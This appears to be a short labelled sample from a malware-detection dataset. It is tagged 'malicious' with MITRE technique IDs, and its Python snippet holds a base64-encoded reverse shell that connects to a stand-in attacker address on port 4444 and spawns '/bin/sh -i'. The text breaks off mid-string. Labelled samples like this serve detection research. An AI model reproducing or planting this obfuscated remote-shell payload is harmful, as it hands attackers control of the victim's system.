# label: malicious family=encoded techniques=T1140,T1027,T1059.006 lines=3-5
import base64
code = """
aW1wb3J0IHNvY2tldCxzdWJwcm9jZXNzO3M9c29ja2V0LnNvY2tldCgpO3MuY29ubmVjdCgoIjE5
OC41MS4xMDAuMTIiLDQ0NDQpKTtzdWJwcm9jZXNzLmNhbGwoWyIvYmluL3NoIiwiLWkiXSxzdGRp
